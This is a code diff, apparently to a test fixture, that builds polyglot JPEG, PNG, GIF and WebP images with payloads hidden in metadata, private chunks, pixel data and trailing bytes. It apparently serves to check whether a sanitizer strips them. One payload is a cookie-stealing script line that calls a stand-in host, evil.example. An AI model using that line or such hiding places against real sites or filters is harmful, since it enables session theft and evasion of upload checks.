@@ -1,9 +1,9 @@
-// Pictures in which something else hides: a real archive, a script or a document, at every place that the four
-// formats leave for it. Each is still a picture to every decoder.
+// Polyglots: images with a hidden archive, script or document, at every place that the four formats offer. Each is still a
+// valid image to every decoder.
 import { readFileSync } from "node:fs";
 import { crc32 } from "node:zlib";
 
-/** A ZIP with one stored file, complete: local header, directory and its end. */
+/** A complete ZIP with one stored file: local header, central directory and its end record. */
 function archive() {
   const content = Buffer.from("#!/bin/sh\necho hidden\n");
   const name = Buffer.from("run.sh");
@@ -20,7 +20,7 @@ function archive() {
   return Buffer.concat([local, entry, end]);
 }
 
-/** What hides, and the marks by which it would be found again. */
+/** The payloads, and the marks that show that one survived. */
 export const PAYLOADS = {
   zip: { bytes: archive(), marks: ["PK\x03\x04", "PK\x05\x06", "echo hidden"] },
   script: { bytes: Buffer.from("<script>fetch('//evil.example/'+document.cookie)</script>"), marks: ["<script", "evil.example"] },
@@ -44,7 +44,7 @@ function segmentAt(jpeg, marker) {
   while (jpeg[at + 1] !== marker) at += 2 + jpeg.readUInt16BE(at + 2);
   return at;
 }
-/** An ICC profile of nothing but its head and one private tag. */
+/** An ICC profile with only its header and one private tag. */
 function profile(hidden) {
   const head = Buffer.alloc(128);
   head.write("mntrRGB XYZ ", 12, "latin1");
@@ -59,7 +59,7 @@ function profile(hidden) {
   all.writeUInt32BE(all.length, 0);
   return all;
 }
-/** A bare TIFF whose only entry is a text. */
+/** A TIFF whose only entry is a text. */
 function exif(hidden) {
   const head = Buffer.alloc(26);
   head.write("II*\0", 0, "latin1");
@@ -75,7 +75,7 @@ function exif(hidden) {
 function jpegs(hidden) {
   const jpeg = picture("jpeg/baseline-420.jpg");
   const progressive = picture("jpeg/progressive.jpg");
-  // Inside a scan no mark may appear by accident.
+  // In a scan each 0xff is stuffed, so that the payload contains no marker.
   const stuffed = Buffer.from(hidden.toString("latin1").replaceAll("\xff", "\xff\0"), "latin1");
   return {
     "a comment": insert(jpeg, 2, segment(0xfe, hidden)),
@@ -85,11 +85,11 @@ function jpegs(hidden) {
     "IPTC": insert(jpeg, 2, segment(0xed, join(text("Photoshop 3.0\0"), hidden))),
     "a colour profile": insert(jpeg, 2, segment(0xe2, join(text("ICC_PROFILE\0\x01\x01"), profile(hidden)))),
     "a vendor's segment": insert(jpeg, 2, segment(0xef, hidden)),
-    "JFIF behind its fields": insert(jpeg, 2, segment(0xe0, join(text("JFIF\0\x01\x01\0\0\x01\0\x01\0\0"), hidden))),
-    "a table that nobody uses": insert(jpeg, segmentAt(jpeg, 0xda), segment(0xdb, join(Buffer.from([3]), Buffer.alloc(64, 1).fill(hidden.subarray(0, 64), 0, Math.min(64, hidden.length))))),
-    "between the scan and its end": insert(jpeg, jpeg.length - 2, stuffed),
-    "between the last scan and its end": insert(progressive, progressive.length - 2, stuffed),
-    "behind the end": join(jpeg, hidden),
+    "JFIF after its fields": insert(jpeg, 2, segment(0xe0, join(text("JFIF\0\x01\x01\0\0\x01\0\x01\0\0"), hidden))),
+    "an unused table": insert(jpeg, segmentAt(jpeg, 0xda), segment(0xdb, join(Buffer.from([3]), Buffer.alloc(64, 1).fill(hidden.subarray(0, 64), 0, Math.min(64, hidden.length))))),
+    "between the scan and EOI": insert(jpeg, jpeg.length - 2, stuffed),
+    "between the last scan and EOI": insert(progressive, progressive.length - 2, stuffed),
+    "after the end": join(jpeg, hidden),
   };
 }
 
@@ -119,17 +119,17 @@ function pngs(hidden) {
     "an international text": insert(png, data, chunk("iTXt", join(text("XML:com.adobe.xmp\0\0\0\0\0"), hidden))),
     "EXIF": insert(png, data, chunk("eXIf", exif(hidden))),
     "a private chunk": insert(png, data, chunk("prVt", hidden)),
-    "a private chunk behind the pixels": insert(png, end, chunk("prVt", hidden)),
-    "behind the pixels in their last chunk": isSingle && join(png.subarray(0, data), chunk("IDAT", join(single.subarray(8, -4), hidden)), png.subarray(end)),
-    "a chunk of pixels too many": insert(png, end, chunk("IDAT", hidden)),
+    "a private chunk after the pixels": insert(png, end, chunk("prVt", hidden)),
+    "after the pixels in their last chunk": isSingle && join(png.subarray(0, data), chunk("IDAT", join(single.subarray(8, -4), hidden)), png.subarray(end)),
+    "an extra chunk of pixels": insert(png, end, chunk("IDAT", hidden)),
     "the last chunk": join(png.subarray(0, end), chunk("IEND", hidden)),
-    "behind the end": join(png, hidden),
+    "after the end": join(png, hidden),
   };
 }
 
 // --- GIF -----------------------------------------------------------------------------------------------
 
-/** A chain of blocks as GIF has it. */
+/** `content` as GIF sub-blocks. */
 function blocks(content) {
   const parts = [];
   for (let at = 0; at < content.length; at += 255) {
@@ -147,13 +147,13 @@ function gifs(hidden) {
   const end = gif.length - 1;
   return {
     "a comment": insert(version, first, Buffer.from([0x21, 0xfe]), blocks(hidden)),
-    "an application's block": insert(version, first, Buffer.from([0x21, 0xff, 11]), text("HIDDENHERE1"), blocks(hidden)),
-    "a plain text": insert(version, first, Buffer.from([0x21, 0x01, 12]), Buffer.alloc(12), blocks(hidden)),
-    "an unknown block": insert(version, first, Buffer.from([0x21, 0x77]), blocks(hidden)),
-    // Before the empty block that ends the picture's data.
-    "behind the code that ends the pixels": insert(gif, end - 1, blocks(hidden).subarray(0, -1)),
-    "a comment behind the picture": insert(version, end, Buffer.from([0x21, 0xfe]), blocks(hidden)),
-    "behind the end": join(gif, hidden),
+    "an application extension": insert(version, first, Buffer.from([0x21, 0xff, 11]), text("HIDDENHERE1"), blocks(hidden)),
+    "a plain text extension": insert(version, first, Buffer.from([0x21, 0x01, 12]), Buffer.alloc(12), blocks(hidden)),
+    "an unknown extension": insert(version, first, Buffer.from([0x21, 0x77]), blocks(hidden)),
+    // Before the empty sub-block that ends the image data.
+    "after the end code of the pixels": insert(gif, end - 1, blocks(hidden).subarray(0, -1)),
+    "a comment after the image": insert(version, end, Buffer.from([0x21, 0xfe]), blocks(hidden)),
+    "after the end": join(gif, hidden),
   };
 }
 
@@ -165,13 +165,13 @@ function riff(name, content) {
   head.writeUInt32LE(content.length, 4);
   return join(head, content, Buffer.alloc(content.length & 1));
 }
-/** The same file with this put behind its first twelve bytes, or at its end; its size is set right. */
+/** The same file with its RIFF size corrected. */
 function resized(webp) {
   const bytes = Buffer.from(webp);
   bytes.writeUInt32LE(bytes.length - 8, 4);
   return bytes;
 }
-/** Its only chunk of pixels, made longer. */
+/** The same file with `hidden` appended to its only chunk of pixels. */
 function longer(webp, hidden) {
   const size = webp.readUInt32LE(16);
   const name = webp.toString("latin1", 12, 16);
@@ -186,15 +186,15 @@ function webps(hidden) {
     "an unknown chunk": resized(join(lossy, riff("HIDE", hidden))),
     "EXIF": resized(join(extended, riff("EXIF", exif(hidden)))),
     "XMP": resized(join(extended, riff("XMP ", hidden))),
-    "behind lossy pixels in their chunk": longer(lossy, hidden),
-    "behind lossless pixels in their chunk": longer(lossless, hidden),
+    "after lossy pixels in their chunk": longer(lossy, hidden),
+    "after lossless pixels in their chunk": longer(lossless, hidden),
     "an unknown chunk before the pixels": resized(insert(extended, 30, riff("HIDE", hidden))),
-    "behind the end": join(lossless, hidden),
+    "after the end": join(lossless, hidden),
   };
 }
 
-/** Every hybrid with this hidden in it: `{name, type, bytes}`. */
-export function hybrids(hidden) {
+/** Every polyglot with this payload: `{type, place, bytes}`. */
+export function polyglots(hidden) {
   const all = { "image/jpeg": jpegs(hidden), "image/png": pngs(hidden), "image/gif": gifs(hidden), "image/webp": webps(hidden) };
   return Object.entries(all).flatMap(([type, places]) => Object.entries(places).map(([place, bytes]) => ({ type, place, bytes })));
 }
